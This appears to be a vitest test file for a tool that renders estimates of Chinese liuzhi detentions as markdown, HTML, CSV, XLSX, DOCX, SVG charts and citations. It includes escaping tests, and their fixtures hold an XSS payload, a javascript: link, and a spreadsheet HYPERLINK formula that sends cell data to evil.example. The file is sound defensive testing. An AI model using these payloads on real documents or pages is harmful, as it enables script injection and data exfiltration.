import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { describe, expect, it } from "vitest";
import { FIXED_OPTIONS, shippedLedger } from "../../test/support/reports.ts";
import type { Ledger } from "../core/index.ts";
import { writeDataPackage } from "../ledger/index.ts";
import { seedLedger } from "../methods/index.ts";
import { renderChartSvg } from "./charts.ts";
import { toBibtex, toCslItems } from "./citations.ts";
import { renderCsvFiles } from "./csv.ts";
import { renderDocx } from "./docx.ts";
import { renderHtml } from "./html.ts";
import { readLegalFramework } from "./legal.ts";
import { escapeMarkdown, renderMarkdown } from "./markdown.ts";
import { buildReport, footnoteParts, footnoteText, reportCharts } from "./model.ts";
import { renderXlsx } from "./xlsx.ts";

// The seed's figures: the ledger cut at the December 2024 submission's window (September 2024).
const ledger = seedLedger(shippedLedger());
const report = buildReport(ledger, { ...FIXED_OPTIONS, legal: readLegalFramework() });
const SEED_FIGURES = ["923,000", "184,600", "958,000", "191,600", "39,547", "37,318", "198,000", "71.2", "26,000"];
const unescapeXml = (s: string) =>
  s.replace(/&(lt|gt|quot|apos|amp);/g, (_, e: string) => ({ lt: "<", gt: ">", quot: '"', apos: "'", amp: "&" })[e]!);
const sourceById = new Map(ledger.sources.map((s) => [s.id, s]));

describe("markdown, html and csv", () => {
  it("are byte-identical for the same ledger and options", () => {
    const again = buildReport(seedLedger(shippedLedger()), { ...FIXED_OPTIONS, legal: readLegalFramework() });
    expect(renderMarkdown(again)).toBe(renderMarkdown(report));
    expect(renderHtml(again)).toBe(renderHtml(report));
    expect([...renderCsvFiles(again)]).toEqual([...renderCsvFiles(report)]);
  });

  it("markdown holds the figures and one footnote per cited source, in order", () => {
    const md = renderMarkdown(report);
    for (const f of SEED_FIGURES) expect(md).toContain(f);
    const defs = [...md.matchAll(/^\[\^(\d+)\]: (.*)$/gm)];
    expect(defs.map((d) => Number(d[1]))).toEqual(report.footnotes.map((_, i) => i + 1));
    for (const [i, d] of defs.entries()) {
      const id = report.footnotes[i]!;
      const parts = footnoteParts(sourceById.get(id)!, "en", undefined, report.dateNotes?.get(id));
      expect(d[2]).toBe(parts.map((p) => ("url" in p ? `<${p.url}>` : escapeMarkdown(p.text))).join(""));
    }
    const firstUse = [...md.matchAll(/\[\^(\d+)\](?!:)/g)].map((m) => Number(m[1]));
    expect([...new Set(firstUse)]).toEqual(report.footnotes.map((_, i) => i + 1));
  });

  it("html is self-contained with inline CSS and accessible inline SVG charts", () => {
    const html = renderHtml(report);
    expect(html).toMatch(/<style>[\s\S]*@media print/);
    expect(html).not.toMatch(/<(link|script|img)\b/);
    expect(html.match(/<svg xmlns="http:\/\/www.w3.org\/2000\/svg"[^>]*role="img" aria-label="/g)).toHaveLength(3);
    for (const f of SEED_FIGURES) expect(html).toContain(f);
  });

  it("csv writes one file per table with plain digits", () => {
    const files = renderCsvFiles(report);
    expect([...files.keys()]).toContain("estimates.csv");
    expect([...files.keys()]).toContain("sources.csv");
    expect(files.get("estimates.csv")).toContain("\nTotal,923000,44900,89800,92300,184600\n");
  });
});

describe("charts", () => {
  it("carry a title, units, source line, data date and text alternative", () => {
    for (const chart of reportCharts(report)) {
      const svg = renderChartSvg(chart);
      expect(svg).toMatch(/^<svg xmlns="http:\/\/www.w3.org\/2000\/svg"/);
      expect(svg).toContain(`<title>${chart.title}.`);
      expect(svg).toContain('role="img"');
      expect(svg).toContain(chart.units);
      expect(svg).toContain("Data up to");
      expect(svg).toContain("Source: Liuzhi Monitor");
      expect(renderChartSvg(chart)).toBe(svg);
      // The units are said once, as the subtitle: no axis repeats them as its title.
      expect(svg.split(chart.units).length - 1, chart.id).toBe(1);
    }
  });

  it("mark the years extended from a partial year on the yearly chart's axis, with the factor in a note", () => {
    const whole = buildReport(shippedLedger(), FIXED_OPTIONS);
    for (const lang of ["en", "zh"] as const) {
      const chart = reportCharts(lang === "en" ? whole : buildReport(shippedLedger(), { ...FIXED_OPTIONS, lang })).find(
        (c) => c.id === "yearly",
      )!;
      const svg = renderChartSvg(chart);
      // 2024 and 2025 are January–September, extended by × 12 ÷ 9.
      expect(chart.ticks?.filter((t) => t.label.includes("\n")).map((t) => t.year)).toEqual([2024, 2025]);
      expect(svg).toContain(lang === "en" ? "(extended)" : "（外推）");
      expect(svg).toContain("× 12 ÷ 9");
    }
  });

  it("the provinces chart: no bar's value is drawn across an official figure's rule or past the edge", () => {
    for (const lang of ["en", "zh"] as const) {
      const chart = reportCharts(buildReport(shippedLedger(), { ...FIXED_OPTIONS, lang })).find(
        (c) => c.id === "provinces",
      )!;
      const svg = renderChartSvg(chart);
      const rules = [...svg.matchAll(/<g [^>]*stroke="#c00" aria-label="rule">([\s\S]*?)<\/g>/g)].flatMap((g) =>
        [...g[1]!.matchAll(/x1="([\d.]+)"/g)].map((m) => Number(m[1])),
      );
      expect(rules.length).toBeGreaterThan(0);
      // The value labels: groups of texts of figures, with their offset and anchor.
      const labels = [
        ...svg.matchAll(
          /<g transform="translate\((-?[\d.]+),[^)]*\)" text-anchor="(start|end)"[^>]*aria-label="text">([\s\S]*?)<\/g>/g,
        ),
      ].flatMap((g) =>
        [...g[3]!.matchAll(/translate\(([\d.]+),[\d.]+\)" y="[^"]*">([\d,]+)<\/text>/g)].map((m) => {
          const x = Number(m[1]) + Number(g[1]);
          const width = m[2]!.length * 0.62 * 11;
          return { text: m[2]!, from: g[2] === "start" ? x : x - width, to: g[2] === "start" ? x + width : x };
        }),
      );
      expect(labels.length).toBe(chart.bars.length);
      for (const label of labels) {
        for (const rule of rules)
          expect(rule < label.from - 1 || rule > label.to + 1, `${label.text} crosses ${rule}`).toBe(true);
        expect(label.to, label.text).toBeLessThanOrEqual(720);
      }
    }
  });
});

describe("xlsx", () => {
  it("has one sheet per table with numbers as numbers, a Sources sheet and a method sheet", async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await renderXlsx(report)) as unknown as ArrayBuffer);
    const names = wb.worksheets.map((w) => w.name);
    expect(names).toEqual(
      expect.arrayContaining(["estimates", "floor", "appendix-i", "Sources", "Method & assumptions"]),
    );
    const estimates = wb.getWorksheet("estimates")!;
    let total: unknown[] = [];
    estimates.eachRow((row) => {
      if (row.getCell(1).value === "Total") total = [2, 3, 4, 5, 6].map((i) => row.getCell(i).value);
    });
    expect(total).toEqual([923000, 44900, 89800, 92300, 184600]);
    const sources = wb.getWorksheet("Sources")!;
    expect(sources.rowCount).toBe(ledger.sources.length + 1);
    expect(sources.getRow(2).getCell(2).value).toBe(report.footnotes[0]);
    // The options (seed included) have their own sheet; the method sheet holds the assumptions.
    const options: unknown[] = [];
    wb.getWorksheet("options")!.eachRow((row) => row.eachCell((cell) => options.push(cell.value)));
    expect(options).toContain(String(report.seed));
    const method = wb.getWorksheet("Method & assumptions")!;
    const values: unknown[] = [];
    method.eachRow((row) => row.eachCell((cell) => values.push(cell.value)));
    expect(values).toContain(0.1);
  });
});

describe("docx", () => {
  it("has real tables and real footnotes, one per source, numbered in order of first use", async () => {
    const zip = await JSZip.loadAsync(await renderDocx(report));
    const document = await zip.file("word/document.xml")!.async("string");
    const footnotes = await zip.file("word/footnotes.xml")!.async("string");
    expect(document).toContain("<w:tbl>");
    for (const f of SEED_FIGURES) expect(document).toContain(f);
    const refs = [...document.matchAll(/<w:footnoteReference w:id="(\d+)"\/>/g)].map((m) => Number(m[1]));
    expect(refs).toEqual(report.footnotes.map((_, i) => i + 1));
    const notes = [...footnotes.matchAll(/<w:footnote (?:[^>]*\s)?w:id="(\d+)"[^>]*>([\s\S]*?)<\/w:footnote>/g)].filter(
      (m) => Number(m[1]) > 0,
    );
    expect(notes).toHaveLength(report.footnotes.length);
    notes.forEach((m, i) => {
      const text = [...m[2]!.matchAll(/<w:t(?: [^>]*)?>([^<]*)<\/w:t>/g)].map((t) => unescapeXml(t[1]!)).join("");
      const id = report.footnotes[i]!;
      expect(text.trim()).toBe(footnoteText(sourceById.get(id)!, "en", undefined, report.dateNotes?.get(id)));
    });
    const media = Object.keys(zip.files).filter((f) => f.startsWith("word/media/"));
    expect(media.filter((f) => f.endsWith(".svg"))).toHaveLength(3);
  });
});

describe("citations", () => {
  it("writes every source, Chinese titles kept", () => {
    const bib = toBibtex(ledger);
    expect(bib.match(/^@(online|report)\{/gm)).toHaveLength(ledger.sources.length);
    expect(bib).toContain("title = {2018年全国纪检监察机关处分62.1万人 包括51名省部级及以上干部}");
    const csl = toCslItems(ledger);
    expect(csl).toHaveLength(ledger.sources.length);
    const moj = csl.find((c) => c.id === "moj-20240125-494041")!;
    expect(moj.issued).toEqual({ "date-parts": [[2024, 1, 25]] });
    expect(moj.language).toBe("zh-Hans");
    const xinhua = csl.find((c) => c.id === "xinhua-20180402-1122623057")!;
    // The archived copy once, as its location: no archive name beside it for a style to repeat.
    expect(xinhua).not.toHaveProperty("archive");
    expect(xinhua.archive_location).toBe("Archived copy: https://archive.ph/odKbU");
    // No invented date and no biblatex language name a style would print ("chinese.").
    expect(bib).not.toContain("XXXX");
    expect(bib).not.toMatch(/\{(chinese|english)\}/);
    const undated = ledger.sources.filter((s) => s.published === null).map((s) => s.id);
    expect(undated.length).toBeGreaterThan(0);
    for (const id of undated) expect(csl.find((c) => c.id === id)).not.toHaveProperty("issued");
    // A corporate publisher is one name, braced; no publisher field where biblatex has none.
    expect(bib).toContain("author = {{Discipline Inspection and Supervision Group of the Ministry of Justice}}");
    expect(bib).not.toMatch(/^ {2}publisher = /m);
  });

  it("tags a Chinese title by its script: zh-Hant for traditional characters, zh-Hans otherwise", () => {
    const zh = (title: string) =>
      toCslItems({ ...ledger, sources: [{ ...ledger.sources[0]!, title, title_lang: "zh" }] })[0]!.language;
    expect(zh("中國前3季90名省部級高幹被立案 比2024全年還多")).toBe("zh-Hant");
    expect(zh("2018年全国纪检监察机关处分62.1万人 包括51名省部级及以上干部")).toBe("zh-Hans");
  });

  it("gives as accessed only a capture that got an answer, never a failed one", () => {
    const source = ledger.sources.find((s) => s.url)!;
    const failed = new Map([[source.id, { captured_at: "2025-03-01T10:00:00Z", sha256: "a".repeat(64), count: 1 }]]);
    const ok = new Map([
      [
        source.id,
        { captured_at: "2025-03-01T10:00:00Z", sha256: "a".repeat(64), count: 2, succeeded_at: "2025-02-01T09:00:00Z" },
      ],
    ]);
    expect(toCslItems(ledger, failed).find((c) => c.id === source.id)).not.toHaveProperty("accessed");
    expect(toBibtex(ledger, failed)).not.toContain("urldate");
    expect(toCslItems(ledger, ok).find((c) => c.id === source.id)?.accessed).toEqual({ "date-parts": [[2025, 2, 1]] });
    expect(toBibtex(ledger, ok)).toContain("urldate = {2025-02-01}");
  });

  it("in Chinese: publishers and supplied titles in Chinese, the archived copy in Chinese words", () => {
    const csl = toCslItems(ledger, new Map(), "zh");
    const jiangxi = csl.find((c) => c.id === "ccdi-20190117-187267")!;
    expect(jiangxi.author).toEqual([{ literal: "中央纪委国家监委" }]);
    expect(jiangxi.title).toBe("[留置人数：江西，2018年3月至12月]");
    expect(csl.find((c) => c.id === "xinhua-20180402-1122623057")?.archive_location).toBe(
      "存档副本：https://archive.ph/odKbU",
    );
  });
});

/** The shipped ledger with hostile text in the first cited source and in a figure's period label. */
const IMG = "<img src=x onerror=alert(1)>";
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")';
const MARKUP = "*b* _i_ [x](javascript:alert(1)) `c` \\ & <b>";
function hostileLedger(): { ledger: Ledger; sourceId: string } {
  const base = seedLedger(shippedLedger());
  const sourceId = report.footnotes[0]!;
  const floorObservation = base.observations.find((o) => o.measure === "liuzhi_placements" && o.jurisdiction !== "CN")!;
  return {
    sourceId,
    ledger: {
      ...base,
      sources: base.sources.map((s) =>
        s.id === sourceId
          ? { ...s, title: `${IMG} ${MARKUP}`, publisher: FORMULA }
          : s.id === floorObservation.source_id
            ? { ...s, title: "-2+3", publisher: "@SUM(A1)" }
            : s,
      ),
      observations: base.observations.map((o) =>
        o.id === floorObservation.id ? { ...o, period_label: `${MARKUP} ${IMG}` } : o,
      ),
    },
  };
}

describe("ledger text is escaped", () => {
  const { ledger: hostile, sourceId } = hostileLedger();
  const bad = buildReport(hostile, { ...FIXED_OPTIONS, legal: readLegalFramework() });

  it("in markdown: no raw HTML, no Markdown from the ledger", () => {
    const md = renderMarkdown(bad);
    expect(md).not.toContain("<img");
    expect(md).not.toContain("<b>");
    expect(md).toContain("&lt;img src=x onerror=alert(1)&gt;");
    expect(md).toContain("\\*b\\* \\_i\\_ \\[x\\](javascript:alert(1)) \\`c\\` \\\\ &amp; &lt;b&gt;");
    const number = bad.footnotes.indexOf(sourceId) + 1;
    const note = md.split("\n").find((l) => l.startsWith(`[^${number}]: `))!;
    expect(note).toContain("&lt;img src=x onerror=alert(1)&gt;");
    expect(note).toContain('=HYPERLINK("http://evil.example/?"&amp;A1,"x")');
    // The report's own markup is intact: footnote marks, bold totals, table rows.
    expect(md).toMatch(/\| \*\*Total\*\* \|/);
    expect(md).toContain(`[^${number}]`);
  });

  it("in html, charts included", () => {
    const html = renderHtml(bad);
    expect(html).not.toContain("<img");
    expect(html).not.toContain("<b>");
    expect(html).toContain("&lt;img src=x onerror=alert(1)&gt;");
    for (const chart of reportCharts(bad)) {
      const svg = renderChartSvg(chart);
      expect(svg).not.toContain("<img");
      expect(svg).not.toContain("<b>");
    }
  });
});

describe("report spreadsheets are guarded against formula injection", () => {
  const { ledger: hostile, sourceId } = hostileLedger();
  const bad = buildReport(hostile, { ...FIXED_OPTIONS, legal: readLegalFramework() });

  it("csv: text starting with = + - @ gets a leading quote, numbers stay numbers", () => {
    const files = renderCsvFiles(bad);
    const sources = files.get("sources.csv")!;
    expect(sources).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
    expect(sources).toContain(",'@SUM(A1),");
    expect(sources).toContain(",'-2+3,");
    expect(sources).not.toMatch(/(^|,)"?[=+\-@]/m);
    for (const [name, text] of files) {
      for (const line of text.trimEnd().split("\n")) expect(line, name).not.toMatch(/(^|,)"?[=+@\t\r]/);
    }
    expect(files.get("estimates.csv")).toContain("\nTotal,923000,44900,89800,92300,184600\n");
  });

  it("xlsx: plain strings with a leading quote, never formulas; numbers stay numbers", async () => {
    const buffer = await renderXlsx(bad);
    const zip = await JSZip.loadAsync(buffer);
    for (const name of Object.keys(zip.files).filter((f) => /^xl\/worksheets\/.*\.xml$/.test(f))) {
      expect(await zip.file(name)!.async("string"), name).not.toContain("<f>");
    }
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buffer as unknown as ArrayBuffer);
    const values: unknown[] = [];
    for (const ws of wb.worksheets) ws.eachRow((row) => row.eachCell((cell) => values.push(cell.value)));
    expect(values).toContain(`'${FORMULA}`);
    expect(values).toContain("'@SUM(A1)");
    expect(values).toContain("'-2+3");
    for (const v of values) {
      expect(typeof v === "string" || typeof v === "number" || v === null, JSON.stringify(v)).toBe(true);
      if (typeof v === "string") expect(v).not.toMatch(/^[=+\-@\t\r]/);
    }
    let total: unknown[] = [];
    wb.getWorksheet("estimates")!.eachRow((row) => {
      if (row.getCell(1).value === "Total") total = [2, 3, 4, 5, 6].map((i) => row.getCell(i).value);
    });
    expect(total).toEqual([923000, 44900, 89800, 92300, 184600]);
  });

  it("the data package export stays lossless", () => {
    const dir = mkdtempSync(join(tmpdir(), "liuzhi-export-"));
    try {
      writeDataPackage(hostile, dir);
      const sources = readFileSync(join(dir, "sources.csv"), "utf8");
      expect(sources).toContain(`"${FORMULA.replaceAll('"', '""')}"`);
      expect(sources).not.toContain(`'${FORMULA}`);
      expect(sources).toContain(sourceId);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe("chart legends", () => {
  for (const lang of ["en", "zh"] as const) {
    it(`say what each colour stands for (${lang})`, () => {
      const r = lang === "en" ? report : buildReport(ledger, { ...FIXED_OPTIONS, lang });
      for (const chart of reportCharts(r)) {
        const svg = renderChartSvg(chart);
        const legend = [...svg.matchAll(/<g class="legend-item">.*?<text[^>]*>([^<]*)<\/text><\/g>/g)].map((m) => m[1]);
        if (chart.id === "yearly") {
          expect(legend).toEqual([...new Set(chart.bands.map((b) => b.series)), chart.official[0]!.series]);
          expect(svg).toContain('fill="#4c78a8" fill-opacity="0.3"');
          expect(svg).toContain('fill="#f58518" fill-opacity="0.3"');
        } else if (chart.id === "cumulative") {
          expect(legend).toEqual([chart.band[0]!.series, chart.interval.series, chart.floor.series]);
        } else {
          expect(legend).toHaveLength(2);
          expect(legend[1]).toBe(lang === "en" ? "Official nationwide figure" : "官方全国数字");
        }
      }
    });
  }
});

describe("docx chart fallback", () => {
  it("is the chart drawn by resvg, not a blank image, and needs no browser", async () => {
    const zip = await JSZip.loadAsync(await renderDocx(report));
    const pngs = Object.keys(zip.files).filter((f) => /^word\/media\/.*\.png$/.test(f));
    expect(pngs).toHaveLength(3);
    for (const name of pngs) {
      const png = await zip.file(name)!.async("nodebuffer");
      expect(png.subarray(1, 4).toString(), name).toBe("PNG");
      expect(png.length, name).toBeGreaterThan(20_000);
    }
  }, 60_000);
});
